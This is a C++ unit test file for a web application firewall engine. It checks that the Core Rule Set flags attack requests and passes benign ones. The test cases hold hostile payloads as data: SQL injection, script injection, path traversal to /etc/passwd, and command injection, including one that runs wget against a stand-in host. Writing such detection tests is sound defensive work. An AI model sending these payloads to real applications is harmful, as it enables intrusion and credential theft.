// The Core Rule Set loads without a change, finds plain attacks by the rules that are meant for
// them, and lets benign requests pass.

#include <string>
#include <string_view>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "proxy/waf/engine/program.h"
#include "proxy/waf/engine/rule_set.h"
#include "proxy/waf/engine/transaction.h"
#include "test/waf/engine_fixture.h"

namespace edge::waf {
namespace {

using ::testing::Contains;
using ::testing::IsEmpty;

const std::shared_ptr<const RuleSet>& Crs() {
  static const std::shared_ptr<const RuleSet> rules = Compile(CrsText(1));
  return rules;
}

// Rules that matched and are logged.
std::vector<int64_t> Logged(TestRequest request, Transaction& transaction) {
  Scratch scratch;
  transaction.Begin(Crs(), EngineMode::kOn);
  transaction.InspectRequest(request.View(), scratch);
  std::vector<int64_t> ids;
  for (const RuleMatch& match : transaction.matches()) {
    if (match.logged) ids.push_back(match.rule_id);
  }
  return ids;
}

TEST(CoreRuleSet, HasAllItsRules) {
  EXPECT_GT(Crs()->rules(), 600);
  EXPECT_EQ(Crs()->mode(), EngineMode::kOn);
}

TEST(CoreRuleSet, FindsPlainAttacks) {
  const std::vector<std::pair<TestRequest, int64_t>> cases = {
      {Get("/?id=1%27%20or%20%271%27=%271"), 942100},
      {Get("/?id=1%20union%20select%20password%20from%20users"), 942100},
      {Get("/?a=sleep(5)"), 942160},
      {Get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 941100},
      {Get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 941110},
      {Get("/?f=../../../../etc/passwd"), 930100},
      {Get("/?f=/etc/passwd"), 930120},
      {Get("/?f=http://192.0.2.1/x.txt?"), 931100},
      {Get("/?c=;cat+/etc/passwd"), 932160},
      {Form("c=$(wget+http://a.example/x)"), 932130},
      {Form("x=%3C?php%20phpinfo();"), 933100},
      {Form("x=java.lang.Runtime"), 944100},
      {TestRequest().SetBody("application/json", "{\"a\":\"1' or '1'='1\"}"), 942100},
      {TestRequest().SetBody("text/xml", "<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>"), 941110},
  };
  Transaction transaction;
  for (const auto& [request, id] : cases) {
    EXPECT_THAT(Logged(request, transaction), Contains(id)) << request.target << request.body;
    EXPECT_EQ(transaction.decision().kind, Decision::Kind::kDeny) << request.target << request.body;
    EXPECT_EQ(transaction.decision().rule_id, 949110);
    EXPECT_GE(transaction.TxNumber("anomaly_score"), 5);
  }
}

TEST(CoreRuleSet, ExplainsWhatItFound) {
  TestRequest request = Get("/?id=1%20union%20select%20password%20from%20users");
  Transaction transaction;
  Logged(request, transaction);
  for (const RuleMatch& match : transaction.matches()) {
    if (match.rule_id != 942100) continue;
    EXPECT_EQ(match.message, "SQL Injection Attack Detected via libinjection");
    EXPECT_EQ(match.variable, "ARGS:id");
    EXPECT_EQ(match.severity, 2);
    EXPECT_THAT(match.where->file, testing::EndsWith("REQUEST-942-APPLICATION-ATTACK-SQLI.conf"));
  }
}

TEST(CoreRuleSet, LetsBenignRequestsPass) {
  Transaction transaction;
  for (const TestRequest& request :
       {Get("/"), Get("/index.html"), Get("/search?q=running+shoes&page=2&sort=price"),
        Form("name=Jane+Doe&city=Berlin&text=Please+call+me+tomorrow+morning."),
        TestRequest().SetBody("application/json", "{\"items\":[{\"id\":1,\"name\":\"shoe\"}]}")}) {
    EXPECT_THAT(Logged(request, transaction), IsEmpty()) << request.target << request.body;
    EXPECT_EQ(transaction.decision().kind, Decision::Kind::kPass);
    EXPECT_EQ(transaction.TxNumber("anomaly_score"), 0);
  }
}

}  // namespace
}  // namespace edge::waf
